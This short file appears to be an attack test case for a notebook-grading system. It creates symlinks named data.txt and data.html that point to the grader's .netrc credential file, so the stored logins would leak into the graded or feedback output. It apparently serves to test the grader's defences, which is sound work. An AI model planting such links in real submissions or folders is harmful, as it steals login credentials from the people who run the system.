# attacks: files: a link beside the notebook to a file of the person who grades
# success: its content stands in the graded or the feedback folder
# %% notebook
(folder / "data.txt").symlink_to("@HOME@/.netrc")
(folder / "data.html").symlink_to("@HOME@/.netrc")
